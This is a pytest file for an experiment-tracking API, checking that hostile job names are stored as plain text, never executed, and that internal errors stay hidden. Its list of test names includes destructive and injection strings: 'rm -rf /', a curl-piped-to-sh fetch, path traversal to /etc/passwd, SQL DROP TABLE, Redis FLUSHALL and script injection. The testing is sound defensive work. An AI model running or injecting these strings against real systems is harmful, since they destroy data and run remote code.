"""Hostile text is stored as data, and an unexpected error tells clients nothing internal."""

from __future__ import annotations

import asyncio
import tempfile
from pathlib import Path

import httpx
import pytest

from api.main import create_app
from core.settings import Settings
from tests.api.conftest import problem
from tests.api.test_blowups import INTERNALS
from tests.api.test_end_to_end import submit, wait_for_status
from tests.conftest import Worker

HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "/dev/zero",
    "; rm -rf / #",
    "|| curl http://example.invalid | sh",
    "__import__('os').system('id')",
    "{{7*7}} ${7*7} %s%n%x",
    "<script>alert(1)</script>",
    "$\\frac{a}{b}$ \\usepackage{x}",
    "'; DROP TABLE jobs; --",
    "EVAL \"redis.call('FLUSHALL')\" 0",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_name_is_stored_and_shown_as_given(client: httpx.Client, name: str) -> None:
    # The gpu queue: stored, never trained (no test worker consumes it).
    response = client.post("/v1/experiments", json={"name": name, "device": "gpu"})

    assert response.status_code == 202, response.text
    assert response.json()["spec"]["name"] == name
    assert client.get(f"/v1/experiments/{response.json()['id']}").json()["spec"]["name"] == name


def test_a_trained_job_treats_its_name_as_text(
    client: httpx.Client, worker_process: Worker
) -> None:
    folder = Path(tempfile.mkdtemp(prefix="gw"))  # short: a name has at most 200 characters
    marker = folder / "ran"
    name = f"$(touch {marker}); `touch {marker}`; {marker}"

    job_id = submit(client, {"seed": 1, "name": name, "training": {"epochs": 1}})
    job = wait_for_status(client, job_id, "succeeded", "failed")

    assert job["status"] == "succeeded", job["error"]
    assert client.get(f"/v1/experiments/{job_id}/result").json()["spec"]["name"] == name
    assert not marker.exists()
    folder.rmdir()


def get_from_failing_app(settings: Settings, path: str) -> httpx.Response:
    """GET `path` from the real app (started as a server starts it) with one more route,
    that fails as a bug would."""
    app = create_app(settings)

    @app.get("/v1/boom")
    async def boom() -> None:
        raise RuntimeError("secret at /work/main/core/store/jobs.py:42 password=hunter2")

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(app, raise_app_exceptions=False)
        async with (
            app.router.lifespan_context(app),
            httpx.AsyncClient(transport=transport, base_url="http://test") as client,
        ):
            return await client.get(path)

    return asyncio.run(get())


def test_an_unexpected_error_is_a_generic_500_problem(settings: Settings) -> None:
    response = get_from_failing_app(settings, "/v1/boom")

    body = problem(response, 500)
    assert body == {
        "type": "urn:gradwatch:problem:internal",
        "title": "Internal Server Error",
        "status": 500,
        "detail": "the error was logged",
        "instance": "/v1/boom",
    }
    assert "secret" not in response.text and "hunter2" not in response.text
    assert not any(internal in response.text for internal in INTERNALS)
